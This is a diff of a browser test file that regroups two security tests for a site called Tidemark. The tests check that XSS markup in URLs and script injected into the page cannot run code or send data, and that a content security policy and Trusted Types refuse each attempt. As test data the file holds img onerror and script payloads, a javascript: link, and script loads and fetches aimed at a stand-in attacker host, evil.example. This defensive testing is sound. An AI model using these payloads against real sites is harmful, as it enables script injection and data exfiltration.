@@ -125,100 +125,95 @@ test('in a browser without popovers and dialogs the details of a service can sti
   expect(complaints).toEqual([]);
 });
 
-describe('hostile input', () => {
-  test('markup in the query or fragment of a URL does not run', async () => {
-    const { page, open, complaints } = await arrive();
-    const markup = encodeURI(
-      '<img src=x onerror="document.title=`run`"><script>document.title=`run`</script>',
-    );
-    await open(`/?q=${markup}#${markup}`);
-    await open('/#%E0%A4%A');
-    await open('/#"]');
-    expect(await page.title()).toContain('Tidemark');
-    expect(complaints).toEqual([]);
-  });
+test('markup in the query or fragment of a URL does not run', async () => {
+  const { page, open, complaints } = await arrive();
+  const markup = encodeURI(
+    '<img src=x onerror="document.title=`run`"><script>document.title=`run`</script>',
+  );
+  await open(`/?q=${markup}#${markup}`);
+  await open('/#%E0%A4%A');
+  await open('/#"]');
+  expect(await page.title()).toContain('Tidemark');
+  expect(complaints).toEqual([]);
+});
 
-  test('a script injected into a page cannot run code or send data to another site', async () => {
-    const { page } = await arrive({ path: paths.home });
-    const outcome = await page.evaluate(async () => {
-      const blocked: string[] = [];
-      addEventListener('securitypolicyviolation', (event) =>
-        blocked.push(event.effectiveDirective),
-      );
-      const refused: string[] = [];
-      const attempt = (name: string, action: () => void) => {
-        try {
-          action();
-        } catch {
-          refused.push(name);
+test('a script injected into a page cannot run code or send data to another site', async () => {
+  const { page } = await arrive({ path: paths.home });
+  const outcome = await page.evaluate(async () => {
+    const blocked: string[] = [];
+    addEventListener('securitypolicyviolation', (event) =>
+      blocked.push(event.effectiveDirective),
+    );
+    const refused: string[] = [];
+    const attempt = (name: string, action: () => void) => {
+      try {
+        action();
+      } catch {
+        refused.push(name);
+      }
+    };
+    const put = (tag: string) =>
+      document.body.appendChild(document.createElement(tag));
+    attempt('markup', () =>
+      document.body.insertAdjacentHTML(
+        'beforeend',
+        '<img src="/none.png" onerror="window.ran = true">',
+      ),
+    );
+    attempt('parsed text', () =>
+      new DOMParser().parseFromString('<img src="/none.png">', 'text/html'),
+    );
+    attempt('handler', () =>
+      put('img').setAttribute('onerror', 'window.ran = true'),
+    );
+    attempt('script', () => (put('script').textContent = 'window.ran = true'));
+    attempt(
+      'foreign script',
+      () =>
+        ((put('script') as HTMLScriptElement).src =
+          'https://evil.example/x.js'),
+    );
+    attempt('another gate', () =>
+      (
+        window as unknown as {
+          trustedTypes: { createPolicy(name: string, rules: object): void };
         }
-      };
-      const put = (tag: string) =>
-        document.body.appendChild(document.createElement(tag));
-      attempt('markup', () =>
-        document.body.insertAdjacentHTML(
-          'beforeend',
-          '<img src="/none.png" onerror="window.ran = true">',
-        ),
-      );
-      attempt('parsed text', () =>
-        new DOMParser().parseFromString('<img src="/none.png">', 'text/html'),
-      );
-      attempt('handler', () =>
-        put('img').setAttribute('onerror', 'window.ran = true'),
-      );
-      attempt(
-        'script',
-        () => (put('script').textContent = 'window.ran = true'),
-      );
-      attempt(
-        'foreign script',
-        () =>
-          ((put('script') as HTMLScriptElement).src =
-            'https://evil.example/x.js'),
-      );
-      attempt('another gate', () =>
-        (
-          window as unknown as {
-            trustedTypes: { createPolicy(name: string, rules: object): void };
-          }
-        ).trustedTypes //
-          .createPolicy('other', {}),
-      );
-      const link = put('a') as HTMLAnchorElement;
-      link.href = 'javascript:window.ran = true';
-      link.click();
-      const sent = await fetch('https://evil.example/', {
-        mode: 'no-cors',
-      }).then(
-        () => true,
-        () => false,
-      );
-      await new Promise((resolve) => setTimeout(resolve, 500));
-      return {
-        ran: 'ran' in window,
-        sent,
-        refused,
-        blocked: [...new Set(blocked)].sort(),
-      };
-    });
-    expect(outcome).toEqual({
-      ran: false,
-      sent: false,
-      refused: [
-        'markup',
-        'parsed text',
-        'handler',
-        'script',
-        'foreign script',
-        'another gate',
-      ],
-      blocked: [
-        'connect-src',
-        'require-trusted-types-for',
-        'script-src-elem',
-        'trusted-types',
-      ],
-    });
+      ).trustedTypes //
+        .createPolicy('other', {}),
+    );
+    const link = put('a') as HTMLAnchorElement;
+    link.href = 'javascript:window.ran = true';
+    link.click();
+    const sent = await fetch('https://evil.example/', {
+      mode: 'no-cors',
+    }).then(
+      () => true,
+      () => false,
+    );
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    return {
+      ran: 'ran' in window,
+      sent,
+      refused,
+      blocked: [...new Set(blocked)].sort(),
+    };
+  });
+  expect(outcome).toEqual({
+    ran: false,
+    sent: false,
+    refused: [
+      'markup',
+      'parsed text',
+      'handler',
+      'script',
+      'foreign script',
+      'another gate',
+    ],
+    blocked: [
+      'connect-src',
+      'require-trusted-types-for',
+      'script-src-elem',
+      'trusted-types',
+    ],
   });
 });
